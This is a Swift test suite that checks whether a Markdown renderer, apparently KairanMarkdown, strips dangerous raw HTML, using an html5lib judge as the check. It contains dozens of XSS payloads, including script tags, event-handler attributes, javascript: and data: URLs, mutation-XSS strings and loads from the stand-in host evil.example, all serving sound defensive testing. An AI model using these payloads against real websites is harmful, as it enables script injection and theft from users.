import KairanModel
import SiteTesting
import Testing

@testable import KairanMarkdown

/// Raw HTML of trusted authors, judged by a browser's parser: nothing runs, and nothing reaches out of the text.
@Suite struct AllowedHTMLTests {
    private func rendered(_ text: String) -> Diagnosed<RenderedMarkdown> {
        var source = MarkdownSource(text: text, path: "a.md")
        source.keepsHTML = true
        return renderMarkdown(source)
    }

    private func plain(_ text: String) -> String {
        var source = MarkdownSource(text: text, path: "a.md")
        source.keepsHTML = true
        return plainText(of: source).text
    }

    @Test(arguments: [
        ("<div>\n<p>One <b>two</b></p>\n</div>", "<div>\n<p>One <b>two</b></p>\n</div>", "One two"),
        ("<div>\n\n*a*\n\n</div>", "<div>\n\n<p><em>a</em></p>\n</div>", "a"),
        ("<p>a<p>b", "<p>a</p><p>b\n</p>", "a\n\nb"),
        ("<table><tr><td>a<td>b</table>", "<table><tr><td>a</td><td>b</td></tr></table>", "a\n\nb"),
        ("a <a href=\"/b?c&amp;d\" title=\"t\">b</a>", "<p>a <a href=\"/b?c&amp;d\" title=\"t\">b</a></p>", "a b"),
        ("<h2 id=\"x\">A</h2>\n\n## A", "<h2 id=\"x\" >A</h2 >\n\n<h2 id=\"a\">A</h2>", "A\n\nA"),
        (
            "<figure><img src=\"a.png\" alt=\"A\"><figcaption>B</figcaption></figure>",
            "<figure><img src=\"a.png\" alt=\"A\" /><figcaption>B</figcaption></figure>", "A\n\nB"
        ),
        (
            "<blockquote>a</blockquote>\n\n> [!NOTE]\n> b", "<blockquote >a</blockquote >\n\n<div class=\"alert",
            "a\n\nNote\n\nb"
        ),
    ])
    func isKept(_ markdown: String, _ html: String, _ text: String) {
        let made = rendered(markdown)
        #expect(made.diagnostics.isEmpty)
        #expect(made.value.html.hasPrefix(html), "\(made.value.html)")
        #expect(plain(markdown) == text)
    }

    /// Each is written as authors of attacks write them, after the kinds that OWASP's cheat sheets list.
    static let attacks = [
        "<script>alert(1)</script>", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</script>",
        "<script/x>alert(1)</script/x>", "<<script>alert(1);//<</script>", "<script>\n\nalert(1)\n\n</script>",
        "<img src=x onerror=alert(1)>", "<img src=x onerror\n=alert(1)>", "<img src='x' onerror=alert(1)//>",
        "<img/src=x/onerror=alert(1)>", "<img src=\"x\"\"onerror=alert(1)>", "<img src=`x`onerror=alert(1)>",
        "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">", "<img src=x:alert(1) onerror=eval(src)>",
        "<div onclick=alert(1) onmouseover=\"alert(2)\">a</div>", "<p onload=alert(1)>a",
        "<b onfocus=alert(1) tabindex=0 autofocus>a</b>",
        "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\">a</a></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><script>alert(1)</script></mtext></math>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">",
        "<iframe src=https://evil.example/></iframe>", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=https://evil.example/></object>", "<embed src=https://evil.example/>", "<applet code=x></applet>",
        "<form action=https://evil.example/><input name=a><button>b</button></form>",
        "<button formaction=javascript:alert(1)>a",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">", "<base href=https://evil.example/>",
        "<link rel=stylesheet href=https://evil.example/x.css>", "<style>body{display:none}</style>",
        "<style>@import url(https://evil.example/x.css)</style>",
        "<p style=\"background:url(https://evil.example/)\">a</p>",
        "<div style=\"position:fixed;inset:0\">a</div>", "<div class=skip>a</div>",
        "<p dir=\"x\" onx=\"\" id=\"a b\">a</p>",
        "<textarea><img src=x onerror=alert(1)></textarea>", "<title><img src=x onerror=alert(1)></title>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
        "<template><script>alert(1)</script></template>", "<plaintext>", "<!--><script>alert(1)</script>-->",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "<?xml version=\"1.0\"?><script>alert(1)</script>",
        "<![CDATA[<script>alert(1)</script>]]>", "<!DOCTYPE html><html><body onload=alert(1)>",
        "<body onload=alert(1)>",
        "</div></article></main></body></html><p>out", "</p></div><div>", "<li>stray</li><td>stray</td><tr><th>stray",
        "<table><tr><td></table></td></div>a", "<table></div></div><p>a</p></table>",
        "<ul></div><li></div>a</ul></div>",
        "<div><div><div>", "<b><i><u>\n\na\n\n</div></b></i></u>", "<a href=/x><a href=/y></a></a></a></div>",
        "<details open><summary>a</details></div></summary>", "<table><td></div></td><p></div></table></div></main>",
        "<select><option></select></div>", "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>",
        "<marquee onstart=alert(1)>a</marquee>", "<frameset><frame src=javascript:alert(1)></frameset>",
        "<a href=\"/x\" onclick=alert(1) ping=https://evil.example/>a</a>",
        "<img src=/x srcset=\"https://evil.example/x 2x\">",
        "<p title=\"&quot; onclick=alert(1) x=&quot;\">a</p>", "<p title='\"><script>alert(1)</script>'>a</p>",
        "<img alt='\"><script>alert(1)</script>' src=/x>", "a <b title='\"><script>alert(1)</script>'>b</b>",
        "a <img src=/x onerror=alert(1)> <span onclick=alert(1)>b</span> </div> <div>c</div> <p>",
        "> <div>\n> a\n\n</div></div>", "- <div>\n- </div></div></ul></li>",
        "| <div> | </table></div> |\n| - | - |\n| <td> | </tr> |",
        "*<b>* </b> [<i>](x) </i> <a href=/x>[y](/y)</a> [<a href=/x>](/y) </a>", "<h1></h2></h1></div><h2>",
        "<hr></hr></div></hr>",
        "<p>a</p \n\n></div>", "<div title=\"\n\n\">a</div>", "<center></center></center></div>",
    ]

    /// Addresses that run code are errors, as they are in Markdown.
    @Test(arguments: [
        "<a href=\"javascript:alert(1)\">a</a>", "<a href=\"JaVaScRiPt:alert(1)\">a</a>",
        "<a href=\" javascript:alert(1)\">a</a>",
        "<a href=\"java\tscript:alert(1)\">a</a>", "<a href=\"javascript&#58;alert(1)\">a</a>",
        "<a href=\"javascript&colon;alert(1)\">a</a>",
        "<a href=\"&#x6A;avascript:alert(1)\">a</a>", "<a href=\"&#1;javascript:alert(1)\">a</a>",
        "<a href='vbscript:x'>a</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">a</a>", "<img src=\"javascript:alert(1)\">",
        "<p><a href=\"java&Tab;script:alert(1)\">a</a></p>",
        "<p><img src=\"data:text/html,x\"></p>", "<p><a href=javascript:alert(1)>a</a></p>",
    ])
    func addressesThatRun(_ text: String) {
        let made = rendered(text)
        let isHarmless = made.value.html.contains("href=\"java&amp;Tab;script")
        #expect(
            made.diagnostics.contains { $0.rule == .markdownLink && $0.severity == .error } || isHarmless, "\(made)")
        #expect(!made.value.links.contains { $0.destination.lowercased().contains("javascript:") })
    }

    /// The judge's answer in its canonical form, which is that of the text `all is well`.
    private static let good = "s616c6c2069732077656c6c"

    /// A page with the text in the middle of its own elements, as html5lib reads it.
    private static let parse = """
        import html5lib
        good = set("a abbr b bdi bdo big br cite code del dfn em i img ins kbd mark q rp rt ruby s samp small span strike strong sub sup time tt u var wbr address article aside blockquote center details div dl figcaption figure footer h1 h2 h3 h4 h5 h6 header hr ol p pre section summary table ul li dt dd caption colgroup col thead tbody tfoot tr td th input".split())
        attributes = set("href src title lang dir id alt start reversed type value colspan rowspan align scope span open datetime checked disabled".split())
        def parse(text):
            page = "<!DOCTYPE html><title>t</title><main><article><div id=body-of-text>" + text + "</div><p id=after-text>after</p></article></main>"
            tree = html5lib.parse(page, namespaceHTMLElements=False)
            body = tree.find("./body/main/article/div[@id='body-of-text']")
            after = tree.find("./body/main/article/p[@id='after-text']")
            faults = []
            if body is None or after is None: return "reaches out"
            if len(tree.find("./body")) != 1 or len(tree.find("./body/main/article")) != 2: return "adds outside"
            if (tree.find("./body").text or "").strip() or (body.tail or "").strip(): return "text outside"
            for element in body.iter():
                if element is body: continue
                if not isinstance(element.tag, str): return "comment"
                if element.tag not in good: faults.append(element.tag)
                for name, value in element.attrib.items():
                    if name not in attributes: faults.append(name)
                    scheme = "".join(c for c in value if c > " ").split(":")[0].lower()
                    if name in ("href", "src") and scheme in ("javascript", "data", "vbscript"): faults.append(value)
            return " ".join(sorted(faults)) or "all is well"

        """

    @Test(.enabled(if: PythonJudge.isAvailable && PythonJudge.canImport("html5lib")))
    func nothingRunsAndNothingReachesOut() throws {
        var texts = Self.attacks
        // Two attacks after each other may do together what neither does alone.
        for (index, attack) in Self.attacks.enumerated() {
            texts.append(attack + "\n\n" + Self.attacks[(index * 7 + 3) % Self.attacks.count])
            texts.append("<div>\n\n" + attack + "\n\n</div>\n\n" + Self.attacks[(index * 5 + 1) % Self.attacks.count])
            texts.append("a " + attack.replacing("\n", with: " "))
        }
        let pages = texts.map { rendered($0).value.html }
        let verdicts = try PythonJudge.judge(pages.map { Array($0.utf8) }, with: Self.parse)
        try #require(verdicts.count == texts.count)
        for (index, verdict) in verdicts.enumerated() {
            #expect(verdict == Self.good, "\(verdict): \(texts[index])\n\(pages[index])")
        }
    }

    /// Pieces of markup in any order.
    @Test(.enabled(if: PythonJudge.isAvailable && PythonJudge.canImport("html5lib")))
    func anyPieces() throws {
        let words = [
            "<div>", "</div>", "<p>", "</p>", "<table>", "</table>", "<tr>", "<td>", "</td>", "<ul>", "<li>", "</ul>",
            "<b>", "</b>",
            "<a href=/x>", "</a>", "<h2>", "</h2>", "<blockquote>", "</blockquote>", "<script>", "</script>", "<svg>",
            "</svg>",
            "<details>", "</details>", "<dl>", "<dt>", "</dl>", "<img src=/y>", "a", "*b*", "\n", "\n\n", "> ", "- ",
            "<!--", "-->",
            "<", "\"", "'", "<pre>", "</pre>", "`", "[c](/d)", "<center>", "</main>", "<caption>", "<thead>",
            "<figure>", "<br>",
        ]
        let seed = printedSeed()
        var generator = SeededNumbers(seed: seed)
        let texts = (0..<600).map { _ in
            (0..<Int.random(in: 2...24, using: &generator)).map { _ in words.randomElement(using: &generator) ?? "" }
                .joined()
        }
        let pages = texts.map { rendered($0).value.html }
        let verdicts = try PythonJudge.judge(pages.map { Array($0.utf8) }, with: Self.parse)
        try #require(verdicts.count == texts.count)
        for (index, verdict) in verdicts.enumerated() {
            #expect(verdict == Self.good, "\(verdict): \(texts[index].debugDescription)\n\(pages[index])")
        }
    }

    @Test func nothingIsKeptWhereNobodyIsTrusted() {
        let made = renderMarkdown(MarkdownSource(text: "<div>a</div>\n\n<b>c</b>", path: "a.md"))
        #expect(made.value.html == "<p>c</p>")
    }

    /// The address is found in the tag itself, wherever else its text stands.
    @Test(arguments: [
        ("<p>aaaaaa bad <a href=\"bad\">x</a></p>", ["1:24+3"]),
        ("<p><a href=\"/no/\">x</a> <a href=\"/no/\">y</a></p>", ["1:13+4", "1:34+4"]),
        ("> <div>\n> <a\n>   href=\"b\">y</a>\n> </div>", ["3:11+1"]),
        ("- <div>\n  <img src=a.png alt=b>\n  </div>", ["2:12+5"]),
        ("<p>**「東」**は<a href=\"東\">y</a></p>", ["1:21+1"]),
        ("<p>https://a.example。<a href=\"b\">y</a></p>", ["1:31+1"]),
        ("<p><a href=\"\">x</a></p>", ["1:7+7"]),
        ("a b <a href=\"b\">c</a> <a href=\"b\">d</a>", ["1:14+1", "1:32+1"]),
        ("a <a title=b\n  href=\"b\">c</a>", ["2:9+1"]),
        ("<b>a</b> <img\nsrc=\"b\">", ["2:6+1"]),
    ])
    func placesOfAddresses(_ text: String, _ places: [String]) {
        let spans = rendered(text).value.links.map(\.span)
        #expect(spans.map { "\($0.line):\($0.column)+\($0.length)" } == places)
    }

    /// Whatever is dropped is told, except for ends of elements that have ended and attributes on which Kairan decides.
    @Test(arguments: [
        ("<p>a</p></section></main>", ["1:9 </section>", "1:19 </main>"]),
        ("<p>a<div>b</div></p><ul><li>c<li>d</ul></li>", []),
        ("<form>a</form>", ["1:1 <form>"]), ("<form>\n\na\n\n</form>", ["1:1 <form>"]),
        ("<img alt=y>", ["1:1 <img>"]), ("a <img alt=y> b", ["1:3 <img>"]),
        ("<a href=/x target=_blank rel=nofollow><img src=/y width=1 height=2 loading=lazy alt=z></a>", []),
        ("<p class=a>b</p><p class=c>d</p>", ["1:4 class"]), ("a <b title=c class=d>e</b>", ["1:14 class"]),
        ("<p id=\"a b\">c</p>", ["1:4 id"]), ("<p align=\"a b\">c</p>", ["1:4 align"]),
        ("## A\n\n<p id=a>b</p>", ["3:4 id"]), ("<p id=fn-1>a</p>", ["1:4 id"]), ("<a name=b id=b></a>", []),
        ("a <b>c", ["1:3 <b>"]), ("a <x>c</x>", ["1:3 <x>"]), ("<p><x>a</x><x>b</x></p>", ["1:4 <x>", "1:12 <x>"]),
    ])
    func whatIsDroppedIsTold(_ text: String, _ told: [String]) {
        let found = rendered(text).diagnostics.map { diagnostic in
            let words = diagnostic.message.split(separator: "'")
            return "\(diagnostic.span.line):\(diagnostic.span.column) \(words.count > 1 ? words[1] : "")"
        }
        #expect(found == told)
    }

    @Test(arguments: [
        "<a href=\"/o/\">**[in](/i/)**</a>", "<a href=\"/o/\">**<a href=\"/i/\">in</a>**</a>",
        "<a href=\"/o/\">*a ~~[in](/i/)~~*</a>", "[**<a href=\"/o/\">in</a>**](/i/)",
        "<a href=\"/o/\">in **https://i.example/**</a>",
    ])
    func noLinkIsInAnother(_ text: String) {
        let made = rendered(text)
        #expect(made.value.html.split(separator: "<a ").count == 2, "\(made.value.html)")
        #expect(made.diagnostics.count == 1)
    }

    @Test func footnotesKeepTheirPlaces() {
        let made = rendered("<p id=\"fn-1\">a</p>\n\n<a href=\"/o/\">b[^1]</a>\n\n[^1]: c").value
        #expect(made.html.split(separator: "id=\"fn-1\"").count == 2, "\(made.html)")
        #expect(!made.html.contains("/o/"))
    }
}
